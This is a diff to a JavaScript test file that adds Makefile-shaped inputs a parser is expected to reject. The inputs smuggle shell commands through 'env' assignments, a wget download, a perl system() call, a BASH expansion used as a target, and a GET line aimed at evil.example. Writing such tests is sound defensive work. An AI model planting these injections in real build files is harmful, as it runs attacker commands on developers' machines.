@@ -29,5 +29,12 @@ t.test('a Makefile: its first data line with its references blanked; shapes a sh
     'PREFIX := /usr/local\n.PHONY: all\n(touch /tmp/pwned_N3 : )\n',
     'PREFIX := /usr/local\n.PHONY: all\neval touch /tmp/pwned_N4 :\n',
     'PREFIX := /usr/local\n.PHONY: all\nX+= \\\n\tid\n',
+    // (second review) a program as an assignment's name (GNU env reads a lone `=` as a setting, then runs the rest), a shell's expansion as
+    // a rule's target
+    'CC := gcc\nCFLAGS ?= -O2\nenv = sh -c "touch /tmp/rv/p1"\nall: build\n\t$(CC) -o app main.c\n',
+    'CC := gcc\nCFLAGS ?= -O2\nenv ?= wget -q http://127.0.0.1:1/x -O /tmp/rv/p2\nall: build\n\t$(CC) -o app main.c\n',
+    'CC := gcc\nCFLAGS ?= -O2\nenv += perl -e "system qq{touch /tmp/rv/p4}"\nall: build\n\t$(CC) -o app main.c\n',
+    'CC := gcc\nCFLAGS ?= -O2\n${BASH: 0} -c "touch /tmp/rv/p3"\nall: build\n\t$(CC) -o app main.c\n',
+    'CC := gcc\nCFLAGS ?= -O2\nGET = http://evil.example/x\nall: build\n\t$(CC) -o app main.c\n',
   ]) t.equal(makefile(v), null, `no Makefile (review): ${JSON.stringify(v)}`)
 })
